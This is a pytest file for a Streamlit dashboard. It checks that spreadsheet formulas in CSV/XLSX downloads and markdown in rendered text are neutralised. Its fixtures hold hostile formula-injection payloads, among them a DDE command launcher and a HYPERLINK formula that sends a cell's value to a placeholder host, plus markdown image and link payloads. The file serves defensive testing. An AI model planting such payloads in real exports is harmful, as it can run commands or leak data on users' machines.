"""Data made inert where it is shown or written (pie/safety.py): spreadsheet formulas in every
download of every page, and markdown in every element the pages draw.

The databases here are tests/fixtures/small_programme.sql with every free-text column
replaced by hostile text (formulas; markdown images, links, directives, LaTeX), opened as a
manager on each page the manager may see.
"""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
import streamlit as st
from openpyxl import load_workbook

from apptest_support import dashboard
from conftest import build_small_programme
from pie import db, safety
from pie.ingest.parse import FORMULA_START as IMPORTER_FORMULA_START
from pie.ui import navigation

MANAGER_PAGES = [page.path for page in navigation.pages_for("manager")]

# One formula per free-text column (OWASP's examples and every starting character).
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://x/?leak="&A2,"x")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
# (table, column, kind of text) of every free-text column of the fixture's programme tables.
FREE_TEXT = [
    ("establishments", "name", "hyperlink"), ("establishments", "city", "dde"),
    ("participant_contacts", "full_name", "hyperlink"), ("participant_contacts", "email", "plus"),
    ("projects", "name", "dde"), ("financing_decisions", "branch", "minus"),
    ("financing_decisions", "rejection_reason", "at"), ("coaching_sessions", "partner", "tab"),
    ("incubation_stages", "incubator", "cr"),
]


pytestmark = pytest.mark.usefixtures("fresh_caches")


def hostile_programme(path: Path, texts: dict[str, str]) -> Path:
    """The small programme with each free-text column set to texts[kind]."""
    build_small_programme(path)
    with db.writing(path) as con:
        for table, column, kind in FREE_TEXT:
            con.execute(f"update {table} set {column} = ?", [texts[kind]])
    return path


# ------------------------------------------------------------------------------ unit rules
@pytest.mark.parametrize("text", [*FORMULAS.values(), "=1", "'=1", "'+1", "''"])
def test_formula_like_text_gets_one_apostrophe(text):
    """Test that text a spreadsheet would run (and an apostrophe before one) gets a leading apostrophe."""
    assert safety.neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 12, "CMC Souss-Massa", "l'atelier", "", None, "a=b"])
def test_numbers_and_plain_text_are_kept(value):
    """Test that numbers (negative ones too) and ordinary text are not touched."""
    assert safety.neutralise_formula(value) == value


def test_the_importer_drops_what_the_rule_adds():
    """Test that the importer's un-escaping and the rule agree on the characters."""
    assert IMPORTER_FORMULA_START == safety.FORMULA_START


# ------------------------------------------------------------------------------ downloads
@pytest.fixture(scope="module")
def formula_db(tmp_path_factory) -> Path:
    return hostile_programme(tmp_path_factory.mktemp("formulas") / "pie.duckdb", FORMULAS)


def _downloads_of(monkeypatch, database: Path, page: str) -> dict[str, bytes]:
    """Every download button of `page` (as manager): file name -> its bytes."""
    captured: dict[str, object] = {}
    original = st.download_button

    def recording(label, data=None, file_name=None, *args, **kwargs):
        captured[file_name] = data
        return original(label, data, file_name, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", recording)
    at = dashboard(monkeypatch, database)
    at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    result = {}
    for name, data in captured.items():
        data = data() if callable(data) else data
        result[name] = data.encode() if isinstance(data, str) else data
    return result


def _cells(name: str, content: bytes) -> list[tuple[object, str | None]]:
    """(value, openpyxl data type or None for CSV) of every cell of a CSV or XLSX download."""
    if name.endswith(".csv"):
        text = content.decode("utf-8-sig")
        delimiter = ";" if text.split("\n", 1)[0].count(";") else ","
        return [(v, None) for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for v in row]
    if name.endswith(".xlsx"):
        book = load_workbook(io.BytesIO(content))
        return [(cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row]
    return []


_NUMBER = re.compile(r"^-?[\d\u202f\u00a0 ]+([.,]\d+)?%?$")


def test_every_download_of_every_page_holds_no_formula(monkeypatch, formula_db):
    """Test that no cell of any CSV or XLSX a manager can download from any page would run as
    a formula, and that the hostile texts are kept behind one apostrophe."""
    seen: set[str] = set()
    files = 0
    for page in MANAGER_PAGES:
        for name, content in _downloads_of(monkeypatch, formula_db, page).items():
            for value, data_type in _cells(name, content):
                assert data_type != "f", (page, name, value)
                if isinstance(value, str) and value and value[0] in safety.FORMULA_START:
                    assert _NUMBER.match(value), (page, name, value)  # only negative numbers
                for kind, formula in FORMULAS.items():
                    if value == "'" + formula:
                        seen.add(kind)
            files += name.endswith((".csv", ".xlsx"))
    assert files >= 20
    # every hostile text that reaches a download is there, escaped (tab and CR included)
    assert seen >= {"hyperlink", "dde", "plus", "minus", "at"}, seen


def test_xlsx_text_cells_are_strings_not_formulas():
    """Test the XLSX writer alone: a text starting with = is a string cell holding the escaped text."""
    import pandas as pd

    from pie.ui import downloads
    from pie.ui.tables import COUNT, TEXT, Table

    table = Table(pd.DataFrame({"Nom": [FORMULAS["hyperlink"], "-1"], "N": [-3, 4]}), {"Nom": TEXT, "N": COUNT})
    sheet = load_workbook(io.BytesIO(downloads.xlsx_bytes(table))).active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("'" + FORMULAS["hyperlink"], "s"), ("'-1", "s")]
    assert [(c.value, c.data_type) for c in sheet["B"][1:]] == [(-3, "n"), (4, "n")]
    rows = list(csv.reader(io.StringIO(downloads.csv_bytes(table).decode("utf-8-sig")), delimiter=";"))
    assert rows[1:] == [["'" + FORMULAS["hyperlink"], "-3"], ["'-1", "4"]]


# ------------------------------------------------------------------------------ markdown
# A name carrying every markdown construct that would fetch, link or style something.
HOSTILE = ("EVIL ![t](http://x.example/p.png) [x](https://x.example/) :red[r] :material/warning: "
           "$x^2$ <https://a.example> www.b.example **b** `c`\n# h")
MARKDOWN = {"hyperlink": HOSTILE, "dde": HOSTILE, "plus": HOSTILE, "minus": HOSTILE, "at": HOSTILE,
            "tab": HOSTILE, "cr": HOSTILE}
# Fields of Streamlit's protos that the frontend renders as markdown (bodies, labels, help texts).
MARKDOWN_FIELDS = {"body", "label", "help", "caption", "title", "description"}
# What an unescaped construct looks like in a markdown source.
LIVE_MARKDOWN = re.compile(r"(?<!\\)(!\[|\]\(|:red\[|:material/|\$|<https?:|(?<![\\/])www\.b|\n)")


@pytest.fixture(scope="module")
def markdown_db(tmp_path_factory) -> Path:
    path = hostile_programme(tmp_path_factory.mktemp("markdown") / "pie.duckdb", MARKDOWN)
    with db.writing(path) as con:  # the region names and a bank code too
        con.execute("update regions set name_fr = ?, name_ar = ? where region_code = '09'", [HOSTILE, HOSTILE])
        con.execute("update financing_decisions set bank = ? where bank = 'CAM'", [HOSTILE.upper()])
    return path


def _markdown_texts(message, found: list[str], field: str = "") -> None:
    """Every text of a proto `message` held in a field the frontend renders as markdown (an
    st.html body is HTML, not markdown: pie.ui.layout escapes the chart summaries it writes)."""
    if message.DESCRIPTOR.name == "Html":
        return
    for descriptor, value in message.ListFields():
        values = value if getattr(descriptor, "is_repeated", False) or isinstance(value, (list, tuple)) \
            or (hasattr(value, "__len__") and not isinstance(value, (str, bytes)) and not hasattr(value, "ListFields")) \
            else [value]
        for item in values:
            if isinstance(item, str) and descriptor.name in MARKDOWN_FIELDS:
                found.append(item)
            elif hasattr(item, "ListFields"):
                _markdown_texts(item, found)


def _elements(node):
    yield node
    for child in getattr(node, "children", {}).values():
        yield from _elements(child)


@pytest.mark.parametrize("page", MANAGER_PAGES)
def test_names_from_data_reach_markdown_escaped(monkeypatch, markdown_db, page):
    """Test that names carrying markdown images, links, directives, icons, LaTeX and line
    breaks reach no element's markdown alive: wherever such a name is shown in markdown
    (the scope caption first), it is in its escaped form."""
    at = dashboard(monkeypatch, markdown_db, region="09", establishment="E1", bank=HOSTILE.upper())
    at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    texts: list[str] = []
    for root in (at.main, at.sidebar):
        for element in _elements(root):
            if getattr(element, "proto", None) is not None:
                _markdown_texts(element.proto, texts)
    hostile = [text for text in texts if "EVIL" in text]
    for text in hostile:
        assert not LIVE_MARKDOWN.search(text), (page, text)
    # pages without the scope caption, which show no name of this database's data
    if page not in ("pages/admin/import.py", "pages/admin/data_quality.py", "pages/reference/glossary.py",
                    "pages/reference/help.py", "pages/admin/reporting.py"):
        assert any(safety.escape_markdown(HOSTILE) in text for text in hostile), (page, texts)


def test_escaped_markdown_reads_as_the_text():
    """Test the escape: every ASCII punctuation markdown acts on is escaped, line breaks and bidi
    controls are gone, and dropping the backslashes gives the text back."""
    escaped = safety.escape_markdown("a*b_[c](d) $e$ :red[f]\n\u202eg www.x.ma")
    assert escaped == r"a\*b\_\[c\](d) \$e\$ \:red\[f\] g www\.x.ma"
    assert re.sub(r"\\(.)", r"\1", escaped) == "a*b_[c](d) $e$ :red[f] g www.x.ma"
    # names keep their hyphens and dots; a value that starts a line cannot open a block
    assert safety.escape_markdown("CMC Souss-Massa (S.A.R.L.)") == "CMC Souss-Massa (S.A.R.L.)"
    assert [safety.escape_markdown(v) for v in ("- a", "+ a", "> a", "1. a", "12) a")] == \
        [r"\- a", r"\+ a", r"\> a", r"1\. a", r"12\) a"]
